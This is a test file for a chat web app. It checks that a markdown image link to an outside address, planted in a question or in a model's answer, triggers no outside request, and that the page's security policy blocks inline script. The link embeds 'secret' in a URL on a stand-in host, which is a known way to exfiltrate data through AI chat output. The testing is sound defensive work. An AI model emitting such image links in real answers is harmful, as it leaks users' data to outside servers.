import { addModel } from '../pages/models.ts'
import { expect, test } from '../support/fixtures.ts'
import { patientModel, untilStopped } from '../support/patientModel.ts'

test.use({ chosen: untilStopped })

const remotePicture = '![secret](http://203.0.113.7/?q=secret)'

test('a picture address in a question or an answer makes no request outside of the app', async ({ chat }) => {
  const own = new Set([
    new URL(chat.page.url()).origin,
    new URL(chat.page.url()).origin.replace('sightline', 'attachment'),
  ])
  const foreign: string[] = []
  chat.page.on('request', (request) => {
    const { protocol, origin } = new URL(request.url())
    if (!own.has(origin) && protocol !== 'blob:' && protocol !== 'data:') foreign.push(request.url())
  })
  await addModel(chat.page, patientModel(remotePicture))
  await chat.ask(`What is this? ${remotePicture}`)
  await expect(chat.answers.last()).toContainText('secret')
  await chat.stop.click()
  await expect(await chat.ended()).toContainText('secret')
  await chat.page.reload()
  await expect(chat.answers.last()).toContainText('secret')
  await expect(chat.questions.last()).toContainText(remotePicture)
  await expect(chat.answers.last().locator('img[src^="http://203"]')).toHaveCount(0)
  expect(foreign).toEqual([])
})

test('the page comes with a policy that lets it load its own files only, and script text does not run', async ({
  chat,
}) => {
  const response = await chat.page.reload()
  const policy = response?.headers()['content-security-policy'] ?? ''
  expect(policy).toContain("default-src 'none'")
  expect(policy).toContain("script-src 'self'")
  expect(policy).not.toMatch(/script-src[^;]*unsafe/)
  expect(response?.headers()['x-content-type-options']).toBe('nosniff')
  await chat.ready()
  const ran = await chat.page.evaluate(() => {
    const script = document.createElement('script')
    script.textContent = 'globalThis.inlineRan = true'
    document.body.append(script)
    return 'inlineRan' in globalThis
  })
  expect(ran).toBe(false)
})
